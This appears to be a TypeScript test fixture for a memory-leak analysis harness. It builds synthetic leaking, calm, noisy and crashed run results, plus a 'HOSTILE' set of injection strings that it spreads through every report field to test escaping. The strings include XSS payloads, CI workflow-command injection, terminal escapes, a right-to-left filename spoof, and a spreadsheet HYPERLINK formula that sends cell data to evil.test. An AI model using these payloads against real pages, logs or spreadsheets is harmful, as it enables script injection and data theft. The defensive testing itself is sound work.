import { analyzeRun } from '../../harness/analyze/analyze-run.ts';
import type { CellExplanation } from '../../harness/contracts/explain.ts';
import type { CellPlan } from '../../harness/contracts/plan.ts';
import type { RunResult } from '../../harness/contracts/result.ts';
import { decide } from '../../harness/verdict/verdict.ts';
import {
  type CellScript,
  cellPlan,
  flat,
  KiB,
  leak,
  ledgerOf,
  MiB,
  type PlanSpec,
  planOf,
  rtcNode,
  source,
} from '../analyze/build-ledger.ts';

export function resultOf(scripts: readonly CellScript[], spec: Partial<PlanSpec> = {}): RunResult {
  const plan = planOf({ cells: scripts.map(({ cell = {} }) => cell), ...spec });
  return decide(plan, analyzeRun(plan, ledgerOf(...scripts)));
}

export const leaking: CellScript = {
  cycles: 40,
  metrics: {
    'native.live': leak(20 * MiB, 400 * KiB),
    'native.pinned': flat(3 * MiB),
    'native.trimmable': flat(MiB),
    'native.resident': leak(24 * MiB, 400 * KiB),
    'managed.live': leak(8 * MiB, 3 * KiB),
    'memory.rss': leak(90 * MiB, 400 * KiB),
    'map.code': flat(30 * MiB),
    'map.other': flat(2 * MiB),
    'threads.total': leak(20, 1),
    'threads.capture': leak(1, 1),
    'fds.total': flat(38),
    'fds.socket': flat(4),
  },
  census: (k) => [
    { sizeBytes: 28_976, count: 3 + k },
    { sizeBytes: 48, count: 30 },
  ],
  idle: {
    checkpoint: 'left+idle',
    metrics: { 'native.live': leak(20 * MiB + 400 * 40 * KiB, -KiB) },
  },
};
export const calm: CellScript = {
  cell: { target: 'demo@2.0.0' },
  cycles: 40,
  metrics: {
    'native.live': flat(20 * MiB),
    'memory.anonymous': flat(50 * MiB),
    'threads.total': flat(20),
    'fds.total': flat(38),
  },
};
const noise = source(3);
const noisy = Array.from({ length: 40 }, () => 90 * MiB + 20 * MiB * noise.normal());
export const open: CellScript = {
  cell: { target: 'demo@3.0.0' },
  cycles: 40,
  metrics: { 'native.live': (k) => noisy[k - 1] },
};
export const died: CellScript = {
  cell: { target: 'demo@4.0.0' },
  cycles: 3,
  metrics: { 'native.live': flat(MiB) },
  end: { kind: 'target-died', cycle: 4, reason: 'signal SIGKILL' },
};
export const jemalloc = {
  cell: cellPlan({ allocator: 'jemalloc' }),
  reason: 'jemalloc was not found',
  hint: 'apt-get install libjemalloc2',
};

export const plain = { color: false, width: 110 };
export const everything = (): RunResult =>
  resultOf([leaking, calm, open, died], { skipped: [jemalloc] });

const ESC = String.fromCharCode(27);
const RIGHT_TO_LEFT = '\u202e';

/** Names that a program under test could give its threads, or a person a target. */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: '</script><script>alert(1)</script>',
  image: '<img src=x onerror=alert(1)>',
  quotes: `"'\`onmouseover="alert(1)`,
  control: `a${ESC}[2Jb\u0000c\u0007d\ud800e`,
  'right to left': `${RIGHT_TO_LEFT}gpj.exe שלום`,
  command: '::error title=x::y%0A::set-output name=a::b\r\n::stop-commands::z ##[error]w',
  markdown: '| x | [a](https://evil.test) @livekit #12 `b`',
  formula: '=HYPERLINK("https://evil.test?"&A1;"x")',
  comment: '<!-- ]]> --> &lt; {{x}} %s',
  long: 'x'.repeat(10_000),
};

/** As a program could name its classes, functions and events. */
function explanationOf(cell: CellPlan, name: string): CellExplanation {
  const amounts = { countPerCycle: 1, bytesPerCycle: 1 };
  const says = `1 ${name} per cycle`;
  const details = [{ label: 'holds', text: name }];
  const common = { explainer: 'growing-objects', state: 'growing' as const, ...amounts };
  return {
    cell,
    startedAt: '2026-01-02T03:04:05.000Z',
    looksAfter: [20, 80],
    suspect: says,
    findings: [
      { ...common, says, trace: [name], details },
      { ...common, says: name, trace: [], details: [] },
    ],
    explainers: [{ id: 'growing-objects', title: name, cost: name, seconds: 1, problems: [name] }],
    failure: name,
    files: [name],
    redacted: false,
  };
}

/** A result in which the name is everywhere a name from outside can be. */
export function hostileResult(name: string): RunResult {
  const clean = resultOf(
    [
      {
        ...leaking,
        cell: { scenario: name, target: `${name}@1`, executor: name, allocator: name },
        metrics: { ...leaking.metrics, [`threads.${name}`]: leak(1, 1), [name]: flat(1) },
      },
      {
        ...calm,
        cell: { scenario: name, target: `${name}@1`, executor: `${name}2`, allocator: name },
      },
      { ...died, end: { kind: 'target-died', cycle: 4, reason: name } },
    ],
    {
      skipped: [{ cell: cellPlan({ target: `${name}@2` }), reason: name, hint: name }],
      truths: [{ cell: 'demo@4.0.0', expect: ['leak'], reason: name }],
    },
  );
  return {
    ...clean,
    warnings: [...clean.warnings, name],
    runId: name,
    truths: [...clean.truths, { cell: name, expected: ['leak'], got: 'broken', holds: false }],
    explanations: clean.cells.map(({ cell }) => explanationOf(cell, name)),
    cells: clean.cells.map((cell) => ({
      ...cell,
      facts: { versions: { [name]: name }, launchCommand: name, nativeBinaries: [name] },
      proof: { allocator: name, evidence: name },
      quality: { ...cell.quality, probeErrors: [name] },
    })),
  };
}

/** As many cells as a large matrix has, as noisy as real ones; one in two leaks. Made from one judged cell each. */
export function manyCells(size: { readonly cells: number; readonly cycles: number }): RunResult {
  const kinds = [true, false].map((bad) => {
    const script = rtcNode(bad, { cycles: size.cycles, seed: 1 });
    const parts = {
      'map.code': flat(34 * MiB),
      'map.stack': flat(MiB),
      'map.other': flat(9 * MiB),
    };
    const { uniform } = source(7);
    const threads = Object.fromEntries(
      Array.from({ length: 8 }, (_, i) => [`threads.pool-${i}`, () => i + Math.round(uniform())]),
    );
    const idle = { checkpoint: 'left+idle' as const, metrics: script.metrics };
    return { ...script, metrics: { ...script.metrics, ...parts, ...threads }, idle };
  });
  const scripts = Array.from({ length: size.cells }, (_, i) => ({
    ...(kinds[i % 2] ?? leaking),
    cell: { ...kinds[i % 2]?.cell, executor: `inline${i}` },
  }));
  return resultOf(scripts, { cycles: size.cycles });
}
